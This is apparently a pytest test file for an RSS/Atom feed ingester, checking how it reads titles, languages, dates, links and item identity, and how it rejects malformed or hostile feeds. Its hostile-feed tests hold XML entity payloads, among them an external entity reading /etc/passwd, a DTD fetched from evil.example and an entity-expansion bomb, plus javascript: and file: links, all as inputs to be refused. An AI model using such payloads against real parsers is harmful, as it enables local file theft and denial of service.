"""Feeds as locations: each item a document of its own, with its title, date, language and address."""

from __future__ import annotations

import json
import tracemalloc
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from time import perf_counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.errors import UnreadableDocument
from graph.model import DateBasis
from graph.quarantine import Quarantine
from graph.settings import Settings
from graph.stores import MEMORY, open_store
from graph.validation import open_gate
from ingest.model import BlockKind, RawDocument, Skipped
from ingest.official import EXTRACTOR
from ingest.parsing import parse
from ingest.pipeline import Road, Status, canonical, read
from ingest.sources import source_at
from ingest.sources.feeds import MAX_ITEMS, feed_items, is_feed
from ingest.sources.feeds.dates import day_of, moment_of

SHARED = Path(__file__).parents[4] / "shared" / "corpus" / "statustables" / "feeds"
needs_corpus = pytest.mark.skipif(not SHARED.is_dir(), reason="the development corpus is not beside the project")
NOW = datetime(2026, 11, 24, tzinfo=UTC)
# The treaty office of the United Nations records these signatures, chapter XVIII, 16.
SIGNED = "Algeria signed the United Nations Convention against Cybercrime in Hanoi on 25 October 2025."
LATER = "Algeria and Angola signed the United Nations Convention against Cybercrime in Hanoi on 25 October 2025."


def rss(*items: str, head: str = "", attributes: str = "") -> bytes:
    inner = "".join(f"<item>{item}</item>" for item in items)
    return f'<rss version="2.0"{attributes}><channel><title>Desk</title>{head}{inner}</channel></rss>'.encode()


def atom(*entries: str, attributes: str = "") -> bytes:
    inner = "".join(f"<entry>{entry}</entry>" for entry in entries)
    return f'<feed xmlns="http://www.w3.org/2005/Atom"{attributes}><title>Planet</title>{inner}</feed>'.encode()


def items(body: bytes, url: str | None = None) -> list[RawDocument]:
    found = list(feed_items(RawDocument("feed.xml", body, url=url)))
    assert all(isinstance(item, RawDocument) for item in found), found
    return [item for item in found if isinstance(item, RawDocument)]


def only(body: bytes, url: str | None = None) -> RawDocument:
    (item,) = items(body, url)
    return item


def lines(item: RawDocument) -> list[tuple[str, str]]:
    parsed = parse(item)
    return [(block.kind.value, block.span.of(parsed.text)) for block in parsed.blocks]


def reasons(body: bytes) -> list[str]:
    return [item.reason for item in feed_items(RawDocument("feed.xml", body)) if isinstance(item, Skipped)]


# --- the fixtures ----------------------------------------------------------------------------------------------------


@needs_corpus
@pytest.mark.parametrize("name", ["treatydesk.rss.xml", "planet.atom.xml"])
def test_every_item_of_the_shared_feeds_comes_whole(name: str) -> None:
    expected = json.loads((SHARED / "expected.json").read_text("utf-8"))[name]["items"]

    found = list(source_at(str(SHARED / name), 1_000_000).documents())

    assert [_facts(item) for item in found] == [
        (row["id"], row["url"], row["title"], row["language"], row["published"]) for row in expected
    ]


@needs_corpus
@pytest.mark.parametrize("name", ["treatydesk.rss.xml", "planet.atom.xml"])
def test_the_shared_feeds_are_read_in_the_languages_that_they_are_in(name: str) -> None:
    expected = json.loads((SHARED / "expected.json").read_text("utf-8"))[name]["items"]

    readings = [
        read(item) for item in source_at(str(SHARED / name), 1_000_000).documents() if isinstance(item, RawDocument)
    ]

    assert [r.document.language for r in readings] == [row["language"].split("-")[0] for row in expected]
    assert [r.document.title for r in readings] == [row["title"] for row in expected]


def _facts(item: RawDocument | Skipped) -> tuple[object, ...]:
    assert isinstance(item, RawDocument)
    fields = json.loads(item.body)["items"][0]
    moment = moment_of(fields.get("date_published"))
    if moment is not None and moment.tzinfo is not None:
        moment = moment.astimezone(UTC)
    written = None if moment is None else moment.isoformat().replace("+00:00", "Z")
    return fields["id"], item.url, fields["title"], fields["language"], written


# --- what an item says -----------------------------------------------------------------------------------------------


def test_an_item_is_its_title_its_text_and_its_caption() -> None:
    body = rss(
        "<title>Algeria signs</title><guid>a1</guid><link>https://desk.example/a</link>"
        f"<description>&lt;p&gt;{SIGNED}&lt;/p&gt;&lt;p&gt;Two.&lt;/p&gt;</description>"
        '<media:content url="/a.jpg"><media:description>Delegates at the table.</media:description></media:content>',
        attributes=' xmlns:media="http://search.yahoo.com/mrss/"',
    )

    assert lines(only(body)) == [
        ("headline", "Algeria signs"), ("body", SIGNED), ("body", "Two."), ("caption", "Delegates at the table."),
    ]  # fmt: skip


def test_the_whole_text_stands_before_the_summary_that_begins_it() -> None:
    body = rss(
        f"<title>T</title><guid>a</guid><description>Algeria signed the United…</description>"
        f"<content:encoded><![CDATA[<p>{SIGNED}</p>]]></content:encoded>",
        attributes=' xmlns:content="http://purl.org/rss/1.0/modules/content/"',
    )

    assert lines(only(body)) == [("headline", "T"), ("body", SIGNED)]


def test_a_summary_that_says_something_of_its_own_is_kept() -> None:
    body = atom(f"<id>urn:a</id><title>T</title><summary>In brief.</summary><content>{SIGNED}</content>")

    assert lines(only(body)) == [("headline", "T"), ("body", "In brief."), ("body", SIGNED)]


@pytest.mark.parametrize(
    ("written", "read_as"),
    [
        ("Costs &amp; gains", "Costs & gains"),
        ("Costs &amp;amp; gains", "Costs & gains"),
        ("&lt;b&gt;Hanoi&lt;/b&gt; signs", "Hanoi signs"),
        ("<![CDATA[<i>Hanoi</i> &amp; L&rsquo;UE]]>", "Hanoi & L’UE"),
        ("L&eacute;gal &hellip; R&D", "Légal … R&D"),
        ("40 &lt; 72", "40 < 72"),
        ("two\n  lines", "two lines"),
        ("bell&#7; and &#x1F; and \x0b end", "bell and and end"),
    ],
)
def test_titles_are_read_as_a_browser_shows_them(written: str, read_as: str) -> None:
    item = only(rss(f"<title>{written}</title><guid>a</guid><description>Text.</description>"))

    assert parse(item).metadata.title == read_as


@pytest.mark.parametrize(
    ("construct", "read_as"),
    [
        ('<title type="text">a &lt;b&gt; c</title>', "a <b> c"),
        ('<title type="html">a &lt;b&gt;b&lt;/b&gt; c</title>', "a b c"),
        ('<title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">a <b>b</b> c</div></title>', "a b c"),
        ('<title type="xhtml"><h:div xmlns:h="http://www.w3.org/1999/xhtml">a <h:b>b</h:b> c</h:div></title>', "a b c"),
    ],
)
def test_the_text_constructs_of_atom_are_told_apart(construct: str, read_as: str) -> None:
    item = only(atom(f"<id>urn:a</id>{construct}<summary>S.</summary>"))

    assert parse(item).metadata.title == read_as


def test_the_language_is_the_items_own_before_that_around_it() -> None:
    feed = rss(
        "<guid>1</guid><title>a</title><dc:language>vi</dc:language>",
        "<guid>2</guid><title>b</title>",
        head="<language>en_GB</language>",
        attributes=' xmlns:dc="http://purl.org/dc/elements/1.1/"',
    )
    planet = atom("<id>urn:1</id><title>a</title>", attributes=' xml:lang="fr"').replace(
        b"<entry>", b'<entry xml:lang="zh">'
    )

    found = [parse(item).metadata.language for item in [*items(feed), *items(planet)]]

    assert found == ["vi", "en-GB", "zh"]


@pytest.mark.parametrize(
    ("links", "url"),
    [
        ("<link>https://a.example/x?utm_source=rss&amp;id=7&amp;fbclid=abc#top</link>", "https://a.example/x?id=7"),
        ("<guid>https://a.example/x</guid>", "https://a.example/x"),
        ("<guid isPermaLink='false'>https://a.example/x</guid>", None),
        ("<link>/x</link>", "https://site.example/x"),
        ("<link>javascript:alert(1)</link>", None),
        ("<link>file:///etc/passwd</link>", None),
        ("<link>http://[broken</link>", None),
        ("<link>https://t.example/r</link><feedburner:origLink>https://a.example/x</feedburner:origLink>", "https://a.example/x"),
    ],
)  # fmt: skip
def test_the_address_is_that_of_the_page_without_what_tracks(links: str, url: str | None) -> None:
    item = only(rss(f"<title>t</title>{links}", head="<link>https://site.example/</link>"))

    assert item.url == url


def test_links_of_atom_are_resolved_and_told_apart() -> None:
    entry = (
        '<id>urn:1</id><title>t</title><link rel="enclosure" href="p.jpg" type="image/jpeg"/>'
        '<link rel="alternate" type="application/pdf" href="x.pdf"/><link type="text/html" href="../x"/>'
    )

    item = only(atom(entry, attributes=' xml:base="/a/b/"'), url="https://site.example/feed")

    assert item.url == "https://site.example/a/x"


@pytest.mark.parametrize(
    ("written", "day", "utc"),
    [
        ("Thu, 20 Nov 2025 17:42:00 +0000", "2025-11-20", "2025-11-20T17:42:00"),
        ("Sat, 25 Oct 2025 21:14:00 -0300", "2025-10-25", "2025-10-26T00:14:00"),
        ("25 Oct 25 21:14 EST", "2025-10-25", "2025-10-26T02:14:00"),
        ("Sat, 25 October 2025 21:14:00 +07:00", "2025-10-25", "2025-10-25T14:14:00"),
        ("Samedi, 25 Oct 2025 21:14:00 GMT", "2025-10-25", "2025-10-25T21:14:00"),
        ("2025-10-25T21:14:00.123Z", "2025-10-25", "2025-10-25T21:14:00"),
        ("2025-10-25T21:14+0700", "2025-10-25", "2025-10-25T14:14:00"),
        ("2024-12-25 06:40:00", "2024-12-25", None),
        ("2025-10-25", "2025-10-25", None),
        ("20251025", "2025-10-25", None),
        ("2025-02-30T00:00:00Z", None, None),
        ("yesterday", None, None),
        ("", None, None),
        ("9" * 5000, None, None),
    ],
)
def test_dates_are_read_in_the_zone_that_they_give(written: str, day: str | None, utc: str | None) -> None:
    moment = moment_of(written)

    assert day_of(written) == day
    zoned = moment is not None and moment.tzinfo is not None
    assert (moment.astimezone(UTC).isoformat()[:19] if moment and zoned else None) == utc


def test_a_date_of_change_is_no_date_of_publication() -> None:
    item = only(atom("<id>urn:1</id><title>t</title><updated>2025-10-26T12:00:00+07:00</updated>"))

    metadata = parse(item).metadata

    assert item.published is None
    assert (metadata.published, metadata.published_basis) == ("2025-10-26", DateBasis.INFERRED_FROM_METADATA)


def test_the_feed_is_the_publisher_of_its_own_items_alone() -> None:
    feed = rss(
        "<guid>1</guid><title>a</title><link>https://www.desk.example/a</link>",
        "<guid>2</guid><title>b</title><link>https://other.example/b</link>",
        "<guid>3</guid><title>c</title><link>https://other.example/c</link><source url='https://x.example/'>X</source>",
        head="<link>https://desk.example/</link>",
    )

    assert [parse(item).metadata.publisher for item in items(feed)] == ["Desk", "other.example", "X"]


# --- identity --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("order", [(0, 1), (1, 0)])
def test_of_two_items_with_one_guid_the_later_stands(order: Sequence[int]) -> None:
    both = (
        "<guid>a</guid><title>Early</title><pubDate>Sat, 25 Oct 2025 09:05:00 GMT</pubDate>",
        "<guid>a</guid><title>Late</title><pubDate>Sat, 25 Oct 2025 14:20:00 GMT</pubDate>",
    )

    assert parse(only(rss(*(both[at] for at in order)))).metadata.title == "Late"


def test_an_item_is_in_the_place_of_its_feed_and_id_alone(tmp_path: Path) -> None:
    body = rss("<guid>same</guid><title>a</title>")
    for name in ("one.xml", "two.xml"):
        (tmp_path / name).write_bytes(body)

    (one,) = source_at(str(tmp_path / "one.xml"), 10_000).documents()
    (two,) = source_at(str(tmp_path / "two.xml"), 10_000).documents()

    assert one.location == f"{tmp_path}/one.xml#same"
    assert canonical(one) != canonical(two)
    assert canonical(one).startswith("one.xml#")
    assert str(tmp_path) not in canonical(one)


def test_an_item_of_a_fetched_feed_has_the_name_of_its_address() -> None:
    raw = RawDocument(
        "https://desk.example/feed", rss("<guid>a#1</guid><title>a</title>"), url="https://desk.example/feed"
    )

    (item,) = feed_items(raw)

    assert canonical(item) == "https://desk.example/feed#a#1"


def test_a_feed_ingested_twice_changes_nothing_and_a_changed_item_replaces(tmp_path: Path) -> None:
    road = Road(
        open_store(MEMORY),
        open_gate(),
        Quarantine(tmp_path / "q"),
        Settings(store=MEMORY, quarantine=str(tmp_path / "q")),
    )
    feed = tmp_path / "feed.xml"

    def ingested(*texts: str) -> list[Status]:
        feed.write_bytes(
            rss(*(f"<guid>{at}</guid><title>T{at}</title><description>{t}</description>" for at, t in enumerate(texts)))
        )
        return [result.status for result in road.ingest([str(feed)], NOW)]

    assert ingested(SIGNED, LATER) == [Status.INGESTED, Status.INGESTED]
    assert ingested(SIGNED, LATER) == [Status.UNCHANGED, Status.UNCHANGED]
    assert ingested(SIGNED, f"{LATER} Austria did too.") == [Status.UNCHANGED, Status.REPLACED]


# --- faults and hostile feeds ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss SYSTEM "x>y" [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
        "<!-- > --><?x <rss?><!doctype rss[<!ENTITY a 'b'>]>",
    ],
)
def test_a_feed_that_declares_entities_is_refused(doctype: str) -> None:
    body = doctype.encode() + rss("<guid>1</guid><title>&b;&x;</title>")

    assert is_feed(body)
    (reason,) = reasons(body)
    assert "declares entities" in reason


@pytest.mark.parametrize("hidden", ["<!DOC\x00TYPE", "<!DOC&#0;TYPE", "<!DOC&#x1f;TYPE"])
def test_a_document_type_that_comes_out_of_mending_is_refused(hidden: str) -> None:
    body = f'{hidden} rss [<!ENTITY a "b">]>'.encode() + rss("<guid>1</guid><title>&a;</title>")

    (reason,) = reasons(body)

    assert "<!DOCTYPE" in reason


@pytest.mark.parametrize("piece", ["<![CDATA[", "<!--", "&", " ", "\n ", "<a", "<a:", "<?"])
def test_no_run_of_signs_takes_long(piece: str) -> None:
    body = rss("<guid>1</guid><title>a</title><description>" + piece * (1_000_000 // len(piece)))
    start = perf_counter()

    list(feed_items(RawDocument("feed.xml", body)))

    assert perf_counter() - start < 3


def test_the_document_type_of_old_feeds_is_ignored() -> None:
    doctype = b'<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss.dtd">\n'

    assert parse(only(doctype + rss("<guid>1</guid><title>caf&eacute;</title>"))).metadata.title == "café"


def test_prefixes_that_are_not_declared_are_understood() -> None:
    item = only(rss("<guid>1</guid><title>a</title><dc:language>vi</dc:language><x:y>z</x:y>"))

    assert json.loads(item.body)["items"][0]["language"] == "vi"


def test_a_feed_that_breaks_gives_what_stands_before_and_says_where() -> None:
    body = rss("<guid>1</guid><title>a</title>", "<guid>2</guid><title>b</title>\n</wrong>")

    first, problem = feed_items(RawDocument("feed.xml", body))

    assert isinstance(first, RawDocument)
    assert isinstance(problem, Skipped)
    assert "line 2" in problem.reason


def test_a_feed_cut_short_gives_no_half_item() -> None:
    body = rss("<guid>1</guid><title>a</title>", f"<guid>2</guid><title>b</title><description>{SIGNED}</description>")

    found = list(feed_items(RawDocument("feed.xml", body[: body.index(b"Hanoi")])))

    assert [type(item) for item in found] == [RawDocument, Skipped]


def test_a_feed_of_very_many_items_is_bounded() -> None:
    body = rss(*(f"<guid>{at}</guid><title>t</title>" for at in range(100_000)))
    tracemalloc.start()

    found = list(feed_items(RawDocument("feed.xml", body)))

    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(found) == MAX_ITEMS + 1
    assert isinstance(found[-1], Skipped)
    assert peak < 20 * len(body)


def test_a_feed_without_items_is_said() -> None:
    assert reasons(rss()) == ["is a feed without items; nothing to read"]


@pytest.mark.parametrize("depth", [300, 100_000])
def test_deep_nesting_ends_in_words(depth: int) -> None:
    deep = b"<a>" * depth

    (problem,) = feed_items(RawDocument("feed.xml", b"<rss><channel><item>" + deep))

    assert isinstance(problem, Skipped)


def test_html_nested_beyond_reason_is_unreadable_and_no_crash() -> None:
    item = only(rss("<guid>1</guid><title>a</title><description>" + "&lt;div&gt;" * 20_000 + "x</description>"))

    with pytest.raises(UnreadableDocument, match="nested too deeply"):
        parse(item)


@pytest.mark.parametrize(
    ("body", "known"),
    [
        (rss(), True),
        (atom(), True),
        (b"\xef\xbb\xbf\n<?xml version='1.0'?><!-- c -->" + rss(), True),
        ("\ufeff<rss/>".encode("utf-16-le"), True),
        (b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/">', True),
        (b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">', False),
        (b"<feed>", False),
        (b"<Treaty><rss/></Treaty>", False),
        (b"<!DOCTYPE html><html><body><rss></rss>", False),
        (b"An article about <rss> feeds", False),
        (b"", False),
        (b"<", False),
    ],
)
def test_a_feed_is_known_by_its_root(body: bytes, known: bool) -> None:
    assert is_feed(body) is known


@pytest.mark.parametrize("codec", ["iso-8859-1", "windows-1252", "utf-16"])
def test_a_feed_is_decoded_as_it_says(codec: str) -> None:
    text = f'<?xml version="1.0" encoding="{codec}"?>' + rss("<guid>1</guid><title>Légal</title>").decode()

    assert parse(only(text.encode(codec))).metadata.title == "Légal"


def test_rss_1_has_its_items_beside_the_channel() -> None:
    body = (
        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"'
        b' xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Desk</title><link>https://desk.example/</link></channel>'
        b'<item rdf:about="https://desk.example/1"><title>a</title><link>https://desk.example/1</link>'
        b"<dc:date>2025-10-25</dc:date></item></rdf:RDF>"
    )

    item = only(body)

    assert (item.url, item.published, parse(item).metadata.publisher) == (
        "https://desk.example/1",
        "2025-10-25",
        "Desk",
    )


@given(st.text(max_size=300))
def test_whatever_stands_in_an_item_its_text_is_quoted_by_its_blocks(text: str) -> None:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace("]]>", "")
    body = rss(f"<guid>1</guid><title>{escaped}</title><description>x {escaped}</description>")

    parsed = parse(only(body))

    assert all(block.span.of(parsed.text).strip() for block in parsed.blocks if block.kind is not BlockKind.HEADLINE)
    assert all(0 <= block.span.start < block.span.end <= len(parsed.text) for block in parsed.blocks)


@given(st.binary(max_size=200), st.integers(0, 300))
def test_damaged_bytes_end_in_items_or_words(noise: bytes, at: int) -> None:
    whole = rss("<guid>1</guid><title>a</title>", "<guid>2</guid><title>b</title>")
    body = whole[:at] + noise + whole[at:]

    assert all(isinstance(item, RawDocument | Skipped) for item in feed_items(RawDocument("feed.xml", body)))


@pytest.mark.skipif(not SHARED.is_dir(), reason="the development corpus is not beside the project")
def test_a_status_table_within_an_item_is_no_official_record() -> None:
    table = (SHARED.parent / "untc" / "ViewDetails-XVIII-16.html").read_text("utf-8")
    item = only(rss(f"<guid>1</guid><title>t</title><description><![CDATA[{table}]]></description>"))

    assert read(item).extractor != EXTRACTOR
